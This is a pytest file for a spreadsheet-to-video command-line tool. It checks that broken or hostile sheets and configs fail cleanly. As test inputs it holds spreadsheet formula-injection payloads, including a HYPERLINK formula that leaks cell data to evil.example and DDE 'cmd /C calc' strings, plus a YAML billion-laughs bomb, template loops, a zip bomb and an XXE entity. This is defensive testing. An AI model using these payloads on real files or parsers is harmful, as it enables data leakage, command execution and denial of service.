"""Hostile and broken input through the command line: whatever a sheet or a config holds, one
``Error:`` line and exit 2 or a result, never a traceback; nothing a run writes into the output
sheet runs as a formula, neither the user's cells nor API error text nor values the API sends
back; cells of 32,767 characters and more, a thousand columns, template bombs and a cell of 20 MB
are read, refused or sent as they should be. What the readers and the config loader do alone:
tests/unit/sheets/test_hostile_sheets.py, tests/unit/config/ (test_hostile_configs,
test_template_limits), tests/unit/mapping/test_moment_ceiling.py.
"""

from __future__ import annotations

import csv
import os
import time
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import Result
from hostile_files import (
    EDITS,
    FUZZ,
    HOSTILE_WORKBOOKS,
    REAL_CONFIGS,
    REAL_TEXT_SHEETS,
    REAL_WORKBOOKS,
    SHEET_HEAD,
    SHEET_TAIL,
    XXE_DTD,
    inline,
    mutate,
    no_hang,
    read_bounded,
    write_csv,
    write_temp,
    xlsx,
    zip_bomb,
)
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from starlette.responses import JSONResponse
from starlette.types import ASGIApp, Receive, Scope, Send
from support import ROOT, streams

from pipeline.config import load_config
from pipeline.emulator import EmulatorServer
from pipeline.sheets import OUTPUT_COLUMNS, SheetError, read_sheet
from pipeline.validation import format_row_errors, validate_rows

from ..unit.config.test_template_limits import bomb_files, config_lines
from ..unit.mapping.test_moment_ceiling import MOMENTS_CONFIG
from ..unit.sheets.test_hostile_sheets import CONTROL_MESSAGE

__all__ = ["no_hang"]  # an autouse fixture: each test here fails rather than hang

# --- helpers ------------------------------------------------------------------------------


def assert_clean(code: int, out: str, err: str) -> None:
    """Exit 2 is one ``Error:`` message; any exit is free of tracebacks."""
    assert code in (0, 1, 2), (code, err)
    assert "Traceback" not in out + err
    if code == 2:
        assert err.startswith("Error: "), err


# --- the command line over broken input: one Error: line, exit 2 --------------------------


@settings(FUZZ, max_examples=40)
@given(source=st.sampled_from(REAL_TEXT_SHEETS + REAL_WORKBOOKS), edits=EDITS)
def test_validate_on_a_broken_sheet_exits_cleanly(
    source: Path, edits: Any, cli: Callable[..., Result]
) -> None:
    sheet = write_temp(mutate(source.read_bytes(), edits), source.suffix)
    config = ROOT / "configs" / "leads.yaml"
    assert_clean(*streams(cli("validate", sheet, "-c", config)))


@settings(FUZZ, max_examples=40)
@given(source=st.sampled_from(REAL_CONFIGS), edits=EDITS)
def test_validate_and_run_with_a_broken_config_exit_cleanly(
    source: Path, edits: Any, cli: Callable[..., Result]
) -> None:
    config = write_temp(mutate(source.read_bytes(), edits), ".yaml")
    sheet = ROOT / "input_examples" / "leads.csv"
    assert_clean(*streams(cli("validate", sheet, "-c", config)))
    # --dry-run reads, validates and plans exactly as a run does, and sends nothing.
    code, out, err = streams(
        cli(
            "run",
            sheet,
            "-c",
            config,
            "--dry-run",
            "--no-progress",
            "--state",
            config.with_suffix(".state"),
        )
    )
    assert_clean(code, out, err)


def test_a_sheet_that_is_not_there_or_not_a_sheet_is_one_error_line(
    tmp_path: Path, cli: Callable[..., Result]
) -> None:
    config = ROOT / "configs" / "leads.yaml"
    cases = {
        "missing.csv": None,
        "folder.csv": "dir",
        "random.xlsx": os.urandom(4000),
        "text.xlsx": b"email,name\na@b.c,x\n",
        "nul.csv": b"email\x00name\n" * 50,
        "empty.ods": b"",
        "legacy.xlsx": bytes.fromhex("d0cf11e0a1b11ae1") + os.urandom(600),
    }
    for name, content in cases.items():
        path = tmp_path / name
        if content == "dir":
            path.mkdir()
        elif isinstance(content, bytes):
            path.write_bytes(content)
        code, out, err = streams(cli("validate", path, "-c", config))
        assert code == 2, (name, err)
        # One "Error:" line (click's own usage errors put theirs after a usage reminder).
        assert err.splitlines()[-1].startswith("Error: "), (name, err)
        assert err.startswith(("Error: ", "Usage: ")), (name, err)
        assert "Traceback" not in out + err


# --- files built to exhaust memory: read in a child process under a memory limit ---------


def test_the_command_line_refuses_a_far_cell_with_one_error_line(
    tmp_path: Path, cli: Callable[..., Result]
) -> None:
    sheet = tmp_path / "leads.xlsx"
    sheet.write_bytes(HOSTILE_WORKBOOKS["far corner cell"]()[1])
    code, _, err = streams(cli("validate", sheet, "-c", ROOT / "configs" / "leads.yaml"))
    assert code == 2
    assert err.startswith("Error: ") and "1,048,576 rows by 16,384 columns" in err


HOSTILE_CONFIGS = {
    "billion laughs": "\n".join(
        [f"l0: &l0 [{', '.join(['lol'] * 9)}]"]
        + [f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 9)}]" for i in range(1, 10)]
        + ["video: {name: x, extras: *l9}", "moments: [{transcript: hi, avatar_id: a}]"]
    ),
    "alias loop": "video: &v {name: x, extras: *v}\nmoments: [{transcript: hi, avatar_id: a}]",
    "deep nesting": "video: {name: " + "[" * 5000 + "]" * 5000 + "}",
    "deep mappings": "video:\n  name: " + "{a: " * 5000 + "1" + "}" * 5000,
    "a huge config": "video: {name: x}\n" + "# padding\n" * 300_000,
}


@pytest.mark.parametrize("case", sorted(HOSTILE_CONFIGS))
def test_configs_built_to_exhaust_memory_are_refused_quickly(
    case: str, tmp_path: Path, cli: Callable[..., Result]
) -> None:
    path = tmp_path / "hostile.yaml"
    path.write_text(HOSTILE_CONFIGS[case], encoding="utf-8")
    result = read_bounded(path, what="config", limit_mb=1024)
    assert result["outcome"].startswith("refused: "), result
    assert result["seconds"] < 5, result
    code, _, err = streams(cli("validate", ROOT / "input_examples" / "leads.csv", "-c", path))
    assert code == 2 and err.startswith("Error: ") and "Traceback" not in err


# --- big cells, many columns ----------------------------------------------------------------

CONFIG = """\
input:
  key: [email]
video:
  name: "{{ name }}"
  extras: {label: "{{ name }}"}
moments:
  - transcript: "{{ script }}"
    avatar_id: avatar-emma
limits: {transcript_chars: 500}
api: {rpm: 6000, concurrency: 8}
"""


def read_csv(path: Path) -> list[dict[str, str]]:
    csv.field_size_limit(1 << 30)
    with path.open(newline="", encoding="utf-8-sig") as handle:
        return list(csv.DictReader(handle))


def run_args(
    sheet: Path, config: Path, output: Path, server: EmulatorServer, *extra: str
) -> list[str]:
    return [
        "run",
        str(sheet),
        "-c",
        str(config),
        "-o",
        str(output),
        "--state",
        str(output.with_name("run.state")),
        "--base-url",
        server.base_url,
        "--no-progress",
        *extra,
    ]


@pytest.fixture
def config(tmp_path: Path) -> Path:
    path = tmp_path / "config.yaml"
    path.write_text(CONFIG, encoding="utf-8")
    return path


def moments(script: str) -> int:
    """How many moments the config makes of ``script`` (as ``validate`` reports it)."""
    from pipeline.chunking import split_transcript

    return len(split_transcript(script, 500))


def test_cells_of_32767_characters_and_more_are_read_sent_and_written_back(
    tmp_path: Path, config: Path, cli: Callable[..., Result], emulator: EmulatorServer
) -> None:
    script = ("A sentence of a long script, said slowly. " * 300)[:8000]
    notes = {"x32767": "n" * 32_767, "x40000": "é" * 40_000, "x5mb": "z" * (5 << 20)}
    sheet = tmp_path / "big.csv"
    write_csv(
        sheet,
        ["email", "name", "script", "notes"],
        [[f"{k}@example.com", k, script, v] for k, v in notes.items()],
    )
    started = time.monotonic()
    result = read_bounded(sheet, limit_mb=1536)
    assert result["outcome"] == "read 3 rows, 4 columns" and result["maxrss_mb"] < 400, result
    output = tmp_path / "out.csv"
    code, _, err = streams(cli(*run_args(sheet, config, output, emulator)))
    assert code == 0, err
    bodies = list(emulator.emulator.videos.values())
    assert len(bodies) == 3 and {len(video["moments"]) for video in bodies} == {moments(script)}
    assert "".join(m["transcript"] for m in bodies[0]["moments"]).replace(" ", "") == (
        script.replace(" ", "")
    )
    rows = read_csv(output)
    assert [row["notes"] for row in rows] == list(notes.values())
    assert all(row["argil_video_id"] for row in rows)
    assert time.monotonic() - started < 20


def test_a_sheet_that_cannot_fit_an_xlsx_output_is_refused_before_anything_is_sent(
    tmp_path: Path, config: Path, cli: Callable[..., Result], emulator: EmulatorServer
) -> None:
    sheet = tmp_path / "big.csv"
    write_csv(
        sheet,
        ["email", "name", "script", "notes"],
        [["a@example.com", "A", "Hello there.", "n" * 40_000]],
    )
    code, _, err = streams(cli(*run_args(sheet, config, tmp_path / "out.xlsx", emulator)))
    assert emulator.emulator.stats.created == 0, "a video was made for an unwritable output"
    assert code == 2 and err.startswith("Error: ") and "32,767" in err


def test_a_thousand_columns_are_read_and_written_back_in_order(
    tmp_path: Path, config: Path, cli: Callable[..., Result], emulator: EmulatorServer
) -> None:
    extra = [f"col{i:04d}" for i in range(997)]
    header = ["email", "name", "script", *extra]
    rows = [
        [f"r{r}@example.com", f"R{r}", f"Hello {r}.", *(f"{r}-{c}" for c in range(997))]
        for r in range(20)
    ]
    sheet = tmp_path / "wide.csv"
    write_csv(sheet, header, rows)
    for output in (tmp_path / "out.csv", tmp_path / "out.xlsx"):
        started = time.monotonic()
        code, _, err = streams(cli(*run_args(sheet, config, output, emulator)))
        assert code == 0, err
        assert time.monotonic() - started < 10
    assert len(emulator.emulator.count_by_batch_key()) == 20
    written = read_csv(tmp_path / "out.csv")
    assert list(written[0])[: len(header)] == header and len(written[0]) == len(header) + len(
        OUTPUT_COLUMNS
    )
    assert [row["col0996"] for row in written] == [f"{r}-996" for r in range(20)]
    book = load_workbook(tmp_path / "out.xlsx", read_only=True)
    first = next(book.active.iter_rows(values_only=True))
    assert list(first[: len(header)]) == header


# --- formula injection ----------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
]


def test_formulas_reach_the_api_unchanged_and_come_back_as_text(
    tmp_path: Path, config: Path, cli: Callable[..., Result], emulator: EmulatorServer
) -> None:
    names = [*FORMULAS, "-5", "+3.5", "plain name"]
    sheet = tmp_path / "formulas.csv"
    write_csv(
        sheet,
        ["email", "name", "script", "=note"],
        [[f"f{i}@example.com", name, f"Hello {i}.", name] for i, name in enumerate(names)],
    )
    for output in ("out.csv", "out.xlsx"):
        code, _, err = streams(cli(*run_args(sheet, config, tmp_path / output, emulator)))
        assert code == 0, err
    sent = sorted(v["name"] for v in emulator.emulator.videos.values())
    labels = sorted(v["extras"]["label"] for v in emulator.emulator.videos.values())
    # Unchanged, but for the blanks around a value, which every rendered value loses.
    expected_sent = sorted(name.strip() for name in names)
    assert sent == expected_sent and labels == expected_sent, "the API got the text unchanged"

    # CSV: the user's own cells come back exactly as they came, formula-like or not (the
    # quote that defuses a formula goes only on what the tool writes).
    rows = read_csv(tmp_path / "out.csv")
    assert "=note" in rows[0]
    assert [row["name"] for row in rows] == names
    assert [row["=note"] for row in rows] == names

    # XLSX: every cell is a string, none a formula, with the text of the input (a line break
    # in a spreadsheet cell is a line feed: XML readers fold a CR into one).
    with zipfile.ZipFile(tmp_path / "out.xlsx") as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    book = load_workbook(tmp_path / "out.xlsx")
    table = list(book.active.iter_rows())
    assert [cell.value for cell in table[0]][3] == "=note"
    for cell_row, name in zip(table[1:], names, strict=True):
        shown = name.replace("\r\n", "\n").replace("\r", "\n")
        assert cell_row[1].data_type == "s" and cell_row[1].value == shown


class RefuseCreates:
    """ASGI middleware in front of the emulator: every create is refused with ``message``."""

    def __init__(self, app: ASGIApp, status: int, message: str) -> None:
        self.app, self.status, self.message = app, status, message

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if (
            scope["type"] == "http"
            and scope["method"] == "POST"
            and scope["path"].endswith("/videos")
        ):
            body = {"code": self.status, "message": self.message}
            await JSONResponse(body, status_code=self.status)(scope, receive, send)
            return
        await self.app(scope, receive, send)


HOSTILE_ERROR = (
    '=HYPERLINK("http://evil.example/","details")\r\n\tline two\x07\x1b[31m'
    + "x" * 5000
    + "\u202e\ufffe end"
)


@pytest.mark.parametrize("status", [400, 401])
def test_api_error_text_is_truncated_and_cannot_run_as_a_formula(
    status: int, tmp_path: Path, config: Path, cli: Callable[..., Result]
) -> None:
    """A refusal's text goes into the row's argil_error (400) and, for a refusal of the whole
    run (401), onto the terminal too: one bounded line, no control characters."""
    sheet = tmp_path / "leads.csv"
    write_csv(sheet, ["email", "name", "script"], [["a@example.com", "A", "Hello."]])
    server = EmulatorServer()
    server.app.add_middleware(RefuseCreates, status=status, message=HOSTILE_ERROR)
    with server:
        for output in ("out.csv", "out.xlsx"):
            code, out, err = streams(
                cli(*run_args(sheet, config, tmp_path / output, server, "--no-preflight"))
            )
            assert code == (1 if status == 400 else 3), err
            for char in "\x07\x1b\u202e":
                assert char not in out + err
            if status == 401:
                assert "Error: the run stopped: =HYPERLINK(" in err
    [row] = read_csv(tmp_path / "out.csv")
    assert row["argil_status"] == ("FAILED" if status == 400 else "PENDING")
    error = row["argil_error"]
    assert error.startswith("'=HYPERLINK(" if status == 400 else "not sent: =HYPERLINK(")
    assert len(error) <= 501
    for char in "\n\r\t\x07\x1b\u202e":
        assert char not in error
    table = list(load_workbook(tmp_path / "out.xlsx").active.iter_rows())
    cell = table[1][[c.value for c in table[0]].index("argil_error")]
    assert cell.data_type == "s" and cell.value == error.removeprefix("'")
    with zipfile.ZipFile(tmp_path / "out.xlsx") as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()


def test_values_the_api_sends_back_cannot_run_as_formulas_either(
    tmp_path: Path, config: Path, cli: Callable[..., Result], emulator: EmulatorServer
) -> None:
    """A compromised or buggy API answer (ids, links, status) is text in the output too."""
    sheet = tmp_path / "leads.csv"
    write_csv(sheet, ["email", "name", "script"], [["a@example.com", "A", "Hello."]])
    output = tmp_path / "out.csv"
    assert streams(cli(*run_args(sheet, config, output, emulator)))[0] == 0
    [video] = emulator.emulator.videos.values()
    video["previewUrl"] = '=HYPERLINK("http://evil.example/","open")'
    video["status"] = "@SUM(1)"
    code, _, err = streams(cli("status", output.with_name("run.state"), "--no-progress"))
    assert code in (0, 1), err
    [row] = read_csv(output)
    assert row["argil_preview_url"] == '\'=HYPERLINK("http://evil.example/","open")'
    assert row["argil_status"] == "'@SUM(1)"


# --- bounds on what input can make the tool do (issue 21) ---------------------------------
# Each case is refused with one line that says what limit was passed, before anything is
# sent, in little time and memory: measured in-process with tracemalloc, or in a child under
# an address-space limit where the old behaviour would take the machine's memory.


def test_validate_says_each_template_bomb_once_for_the_config(
    tmp_path: Path, cli: Callable[..., Result]
) -> None:
    sheet, config = bomb_files(tmp_path)
    code, out, err = streams(cli("validate", sheet, "-c", config))
    assert code == 1, err
    assert out.splitlines() == [
        *config_lines(config, "3 rows: 2-4"),
        "3 rows: 0 valid, 3 invalid, 0 skipped; 0 moments, 0 characters; estimate: about "
        "0.0 min of video, about 0 credits",
    ]


def test_a_run_with_template_bombs_sends_nothing_and_says_each_once(
    tmp_path: Path, cli: Callable[..., Result], emulator: EmulatorServer
) -> None:
    sheet, config = bomb_files(tmp_path)
    output = tmp_path / "out.csv"
    code, _, err = streams(cli(*run_args(sheet, config, output, emulator)))
    assert emulator.emulator.stats.created == 0
    assert code == 1, err
    lines = err.splitlines()
    for line in config_lines(config, "3 rows: 2-4"):
        assert lines.count(line) == 1, err
    assert [row["argil_status"] for row in read_csv(output)] == ["INVALID"] * 3


def test_a_template_too_slow_for_some_rows_is_their_error_only(
    tmp_path: Path, cli: Callable[..., Result]
) -> None:
    loops = "{% for a in script %}{% for b in script %}{% endfor %}{% endfor %}ok"
    config = tmp_path / "slow.yaml"
    config.write_text(
        "input: {key: email}\nvideo:\n  name: Intro\n"
        f'  extras: {{check: "{loops}"}}\n'
        'moments:\n  - transcript: "{{ script }}"\n    avatar_id: avatar-emma\n',
        encoding="utf-8",
    )
    sheet = tmp_path / "leads.csv"
    short, long = "Hi there.", "A longer script, said slowly. " * 20  # 81 and 360,000 turns
    write_csv(
        sheet,
        ["email", "script"],
        [[f"{n}@example.com", long if n in (1, 3) else short] for n in range(4)],
    )
    report = validate_rows(read_sheet(sheet), load_config(config))
    steps = (
        "template error: it takes more than 100,000 steps (loop turns, calls, filters), the "
        "most one render may take"
    )
    assert [plan.status for plan in report.plans] == ["valid", "invalid", "valid", "invalid"]
    assert [plan.body["extras"]["check"] for plan in report.plans if plan.body] == ["ok", "ok"]
    assert [line for plan in report.plans for line in format_row_errors(plan)] == [
        f"{config}:4: video.extras.check: {steps} (in 2 rows: 3, 5)"
    ]
    code, out, _ = streams(cli("validate", sheet, "-c", config))
    assert code == 1
    assert out.splitlines()[0] == f"{config}:4: video.extras.check: {steps} (in 2 rows: 3, 5)"


def test_a_cell_of_20_mb_is_refused_as_too_many_moments_and_never_sent(
    tmp_path: Path, cli: Callable[..., Result], emulator: EmulatorServer
) -> None:
    config = tmp_path / "config.yaml"
    config.write_text(MOMENTS_CONFIG, encoding="utf-8")  # no limits: the default ceiling
    pasted = ("A whole document pasted into one cell, sentence after sentence. " * 400_000)[
        : 20 << 20
    ]
    sheet = tmp_path / "leads.csv"
    write_csv(
        sheet,
        ["email", "script"],
        [["a@example.com", "Hello there."], ["b@example.com", pasted]],
    )
    needed = "moments[0].transcript: the script needs about 41,944 moments, more than "
    needed += "limits.max_moments (50)"
    code, out, _ = streams(cli("validate", sheet, "-c", config))
    assert code == 1
    assert out.splitlines()[0] == f"row 3: {needed}"
    assert out.splitlines()[1].startswith("2 rows: 1 valid, 1 invalid, 0 skipped; 1 moment, ")
    output = tmp_path / "out.csv"
    started = time.monotonic()
    code, _, err = streams(cli(*run_args(sheet, config, output, emulator)))
    assert emulator.emulator.stats.created == 1  # the other row only
    assert code == 1, err
    assert f"row 3: {needed}" in err.splitlines()
    assert [row["argil_error"] for row in read_csv(output)] == ["", needed]
    assert time.monotonic() - started < 20


@pytest.mark.parametrize("written", ["escaped", "raw"])
def test_a_control_character_in_a_workbook_cell_is_refused(
    tmp_path: Path, written: str, cli: Callable[..., Result]
) -> None:
    # OOXML writes a control character as _x0001_; a hand-made file may hold the byte itself.
    text = "Nul_x0001_Name_x0000_X" if written == "escaped" else "Nul\x01Name\x00X"
    sheet = tmp_path / "leads.xlsx"
    sheet.write_bytes(
        xlsx(
            SHEET_HEAD
            + f'<row r="1">{inline("A1", "name")}{inline("B1", "script")}</row>'
            + f'<row r="2">{inline("A2", text)}{inline("B2", "Hello.")}</row>'
            + SHEET_TAIL
        )
    )
    message = f"{sheet} sheet 'Sheet1': {CONTROL_MESSAGE}"
    with pytest.raises(SheetError) as refused:
        read_sheet(sheet)
    assert str(refused.value) == message
    code, _, err = streams(cli("validate", sheet, "-c", ROOT / "configs" / "leads.yaml"))
    assert (code, err) == (2, f"Error: {message}\n")


def test_a_zip_bomb_of_095_gib_is_refused_at_once(
    tmp_path: Path, cli: Callable[..., Result]
) -> None:
    path = tmp_path / "bomb.xlsx"
    path.write_bytes(zip_bomb(int(0.95 * (1 << 30))))
    message = (
        f"{path} unpacks to 972 MiB, more than the 256 MiB allowed for a workbook (a zip "
        "bomb?); if the sheet is genuine, save it as CSV UTF-8 and pass the .csv file"
    )
    result = read_bounded(path, limit_mb=1024)
    assert result["outcome"] == f"refused: {message}", result
    assert result["seconds"] < 2 and result["maxrss_mb"] < 200, result
    code, _, err = streams(cli("validate", path, "-c", ROOT / "configs" / "leads.yaml"))
    assert (code, err) == (2, f"Error: {message}\n")


def test_a_workbook_declaring_entities_in_its_shared_strings_says_so(
    tmp_path: Path, cli: Callable[..., Result]
) -> None:
    sheet = tmp_path / "leads.xlsx"
    sheet.write_bytes(
        xlsx(
            SHEET_HEAD + '<row r="1"><c r="A1" t="s"><v>0</v></c></row>'
            '<row r="2"><c r="A2" t="s"><v>1</v></c></row>' + SHEET_TAIL,
            {
                "xl/sharedStrings.xml": '<?xml version="1.0" encoding="UTF-8"?>'
                + XXE_DTD
                + '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                "<si><t>name</t></si><si><t>&xxe;</t></si></sst>"
            },
        )
    )
    message = (
        f"{sheet}: the workbook's sharedStrings.xml declares a DTD (<!DOCTYPE or <!ENTITY), "
        "which is refused for safety; open it in Excel or LibreOffice and save it as .xlsx "
        "again, or save it as CSV"
    )
    with pytest.raises(SheetError) as refused:
        read_sheet(sheet)
    assert str(refused.value) == message
    code, _, err = streams(cli("validate", sheet, "-c", ROOT / "configs" / "leads.yaml"))
    assert (code, err) == (2, f"Error: {message}\n")
